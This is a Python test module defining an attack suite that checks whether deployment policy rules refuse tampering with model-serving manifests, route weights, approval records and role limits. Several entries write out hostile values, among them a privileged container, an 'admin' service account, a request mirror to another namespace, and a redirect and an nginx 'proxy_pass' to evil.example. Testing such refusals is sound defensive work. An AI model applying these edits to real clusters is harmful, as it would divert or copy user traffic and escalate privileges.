"""The suite `rights`: what the holder of one key tries alone, and the rules that refuse it.

Every attack is a pure question to a rule of the follower. A rule that is a function is switched off
by not asking it. Limits, gates, freezes and holds are data, so switching one off is another value.
"""

from collections.abc import Callable, Mapping
from functools import partial

from goldenpath.attacks.holders.admission_attacks import CONTROLS as OF_ADMISSION
from goldenpath.attacks.holders.admission_attacks import admission_attacks
from goldenpath.attacks.holders.deployment_step import (
    BOTH,
    CANARY,
    MODEL,
    ONE,
    THREE,
    TWO,
    RightsAttack,
    added,
    brought,
    edited,
    recorded,
    reformed,
    removed,
    rerouted,
    sealed_platform,
    shared,
    steps,
    unreadable,
)
from goldenpath.attacks.holders.finding_attacks import CONTROLS as OF_FINDINGS
from goldenpath.attacks.holders.finding_attacks import finding_attacks
from goldenpath.attacks.holders.record_attacks import SIGNED_APPROVERS, record_attacks
from goldenpath.attacks.holders.restriction_attacks import CONTROLS as OF_RESTRICTIONS
from goldenpath.attacks.holders.restriction_attacks import restriction_attacks
from goldenpath.attacks.holders.way_in_attacks import WAYS_IN, way_in_attacks
from goldenpath.canonical import JsonValue
from goldenpath.digest import Digest
from goldenpath.promote.manifests.commit_rights import FileStep, lone_refusal, machine_refusal
from goldenpath.promote.manifests.desired import Rollout
from goldenpath.promote.platform.model_limits import RoleLimit, limit_refusal
from goldenpath.promote.platform.second_person import why_not_both
from goldenpath.release.attacks.suite import AttackSuite, AttackTrial
from goldenpath.release.attest.policy import Person

MACHINE, LONE, PEOPLE, ROLES, TWO_ROLES = (
    "rights of the machine", "rights of one person", "limits of people", "limits of roles",
    "roles of two people",
)  # fmt: skip
Step = Callable[..., FileStep]
_STABLE = ("spec", "predictor")
_SETTINGS: Mapping[str, Step] = {
    "a thousand servers": partial(edited, *_STABLE, "minReplicas", value=1000),
    "no server": partial(edited, *_STABLE, "minReplicas", value=0),
    "another largest number of servers": partial(edited, *_STABLE, "maxReplicas", value=9),
    "an environment": partial(edited, *_STABLE, "model", "env",
        value=[{"name": "OMP_NUM_THREADS", "value": "1"}]),
    "less memory": partial(edited, *_STABLE, "model", "resources",
        value={"limits": {"memory": "1"}}),
    "a service account": partial(edited, *_STABLE, "serviceAccountName", value="admin"),
    "a container of its own": partial(edited, *_STABLE, "containers", value=[]),
    "a security context": partial(edited, *_STABLE, "model", "securityContext",
        value={"privileged": True}),
    "a time limit": partial(edited, *_STABLE, "timeout", value=1),
    "a transformer": partial(edited, "spec", "transformer", value={}),
    "labels": partial(edited, "metadata", "labels", value={"team": "mine"}),
    "an annotation that stops it": partial(edited, "metadata", "annotations",
        "serving.kserve.io/stop", value="true"),
}  # fmt: skip
_RECORDS: Mapping[str, Step] = {
    "another commit": partial(recorded, commit="f" * 40),
    "no approvals": partial(recorded, approvals=()),
    "another decision": partial(recorded, decision=Digest.of(b"x")),
    "another plan": partial(recorded, rollout=Rollout((100,))),
    "another release before": partial(recorded, previous=THREE),
}
_OF_THE_MACHINE: Mapping[str, Step] = {
    "a share that the plan does not have": partial(shared, ((ONE, 70), (TWO, 30))),
    "less traffic than before": partial(shared, ((ONE, 95), (TWO, 5))),
    "swapped roles": partial(shared, ((TWO, 90), (ONE, 10))),
    "a release that nobody approved": partial(shared, ((THREE, 100),)),
    "a canary that nobody approved": partial(shared, ((ONE, 90), (THREE, 10))),
    "a hold": partial(recorded, hold="validator: because"),
    "two verdicts at once": partial(recorded, judged=("a", "b")),
    "no release file": partial(shared, BOTH, None),
    "a deployment that was not there": brought,
}
_OF_ONE: Mapping[str, Step] = {
    "an approval that was not given": partial(recorded, approvals=(*CANARY.approvals, THREE)),
}
_BACKENDS = ("spec", "rules", 0, "backendRefs")
_ELSEWHERE: JsonValue = {"name": "collector", "namespace": "theirs", "port": 80, "weight": 0}
_ROUTES: Mapping[str, Step] = {
    "a weight that the plan does not have": partial(rerouted, *_BACKENDS, 1, "weight", value=30),
    "weights that are not whole": partial(rerouted, *_BACKENDS, 0, "weight", value=0),
    "another host": partial(rerouted, "spec", "hostnames", 0, value="fraud.prod.models.internal"),
    "one more host of its own": partial(rerouted, "spec", "hostnames",
        value=["credit-default.prod.models.internal", "credit-default.prod.evil.example"]),
    "another gateway": partial(rerouted, "spec", "parentRefs", 0, "name", value="outside"),
    "a backend elsewhere": partial(rerouted, *_BACKENDS, 1, value=_ELSEWHERE),
    "a backend that is no release": partial(rerouted, *_BACKENDS, 1, "name", value="collector"),
    "copies of requests for somebody else": partial(rerouted, "spec", "rules", 0, "filters",
        value=[{"type": "RequestMirror", "requestMirror": {"backendRef":
            {"name": "collector", "namespace": "theirs", "port": 80}}}]),
    "a redirect": partial(rerouted, "spec", "rules", 0, "filters",
        value=[{"type": "RequestRedirect", "requestRedirect": {"hostname": "evil.example"}}]),
    "another path": partial(rerouted, "spec", "rules", 0, "matches", 0, "path", "value",
        value="/v2/models/other"),
    "a second rule": partial(rerouted, "spec", "rules", value=[]),
    "the configuration of a gateway": partial(rerouted, "metadata", "annotations",
        "nginx.org/server-snippets", value="proxy_pass http://evil.example;"),
    "labels of a route": partial(rerouted, "metadata", "labels", value={"team": "mine"}),
    "an earlier wave of a route": partial(rerouted, "metadata", "annotations",
        "argocd.argoproj.io/sync-wave", value="-1"),
    "a later wave of a service": partial(edited, "metadata", "annotations",
        "argocd.argoproj.io/sync-wave", value="2"),
    "another runtime": partial(edited, *_STABLE, "model", "runtime", value="theirs"),
    "a service that no route names": partial(added, "credit-default-00000000.yaml"),
    "a service of another model": partial(added, "fraud-00000000.yaml"),
    "the old form beside the route": partial(added, "inferenceservice.yaml"),
    "the form with a route": partial(reformed, "routed"),
    "the form of one service": partial(reformed, "single"),
}  # fmt: skip
_PLACES: Mapping[str, Step] = {"no file at all": removed, "a file that nobody can read": unreadable}


def _by(who: str, *rows: Mapping[str, Step]) -> dict[str, Step]:
    """Return the attacks in both forms of files, and those on routes."""
    both = {what: step for each in rows for what, step in each.items()}
    return {
        **{f"{who} writes {what}": step for what, step in both.items()},
        **{
            f"{who} writes {what}, all in one service": partial(step, form="single")
            for what, step in both.items()
        },
        **{f"{who} writes {what}": step for what, step in _ROUTES.items()},
    }


def _of_people(models: tuple[str, ...], without: frozenset[str]) -> str:
    person = Person("validator", ("validator",), "", models=() if PEOPLE in without else models)
    return limit_refusal(person, (), MODEL)


def _of_roles(role: str, models: tuple[str, ...], without: frozenset[str]) -> str:
    limits = () if ROLES in without else (RoleLimit(role, models),)
    return limit_refusal(Person("validator", (role,), ""), limits, MODEL)


def _of_two(two: tuple[str, str], roles: Mapping[str, set[str]], without: frozenset[str]) -> str:
    return "" if TWO_ROLES in without else why_not_both(sealed_platform(), two, roles)


_ROLES = {"one": {"platform-engineer"}, "two": {"validator"}, "three": {"validator"},
          "four": {"data-scientist"}}  # fmt: skip
ATTACKS: tuple[RightsAttack, ...] = (
    *steps(MACHINE, machine_refusal, _by(
        "the rollout key", _SETTINGS, _RECORDS, _OF_THE_MACHINE, _PLACES)),
    *steps(LONE, lone_refusal, _by("one person", _SETTINGS, _RECORDS, _OF_ONE, _PLACES)),
    RightsAttack("a person of other models acts on this one", PEOPLE,
        partial(_of_people, ("fraud-*",))),
    RightsAttack("a person of a model acts on one with a longer name", PEOPLE,
        partial(_of_people, ("credit",))),
    RightsAttack("a person of a model acts on one with a shorter name", PEOPLE,
        partial(_of_people, ("credit-default-2", "*-2"))),
    RightsAttack("a role of other models counts for this one", ROLES,
        partial(_of_roles, "validator", ("fraud-*",))),
    RightsAttack("a role of a model counts for one with a longer name", ROLES,
        partial(_of_roles, "risk-manager", ("credit",))),
    RightsAttack("one person signs a change of trust twice", TWO_ROLES,
        partial(_of_two, ("one", "one"), _ROLES)),
    RightsAttack("two people without an engineer change trust", TWO_ROLES,
        partial(_of_two, ("two", "three"), _ROLES)),
    RightsAttack("an engineer and a data scientist change trust", TWO_ROLES,
        partial(_of_two, ("one", "four"), _ROLES)),
    *admission_attacks(),
    *restriction_attacks(),
    *way_in_attacks(),
    *record_attacks(),
    *finding_attacks(),
)  # fmt: skip
CONTROLS = (
    MACHINE, LONE, PEOPLE, ROLES, TWO_ROLES, *OF_ADMISSION, *OF_RESTRICTIONS, WAYS_IN,
    SIGNED_APPROVERS, *OF_FINDINGS,
)  # fmt: skip


def rights_suite() -> AttackSuite:
    """Return the suite."""
    return AttackSuite(
        "rights", ATTACKS, CONTROLS, lambda without: [_trial(each, without) for each in ATTACKS]
    )


def _trial(attack: RightsAttack, without: frozenset[str]) -> AttackTrial:
    reason = attack.refusal(without)
    return AttackTrial(not reason, {attack.control: reason} if reason else {})
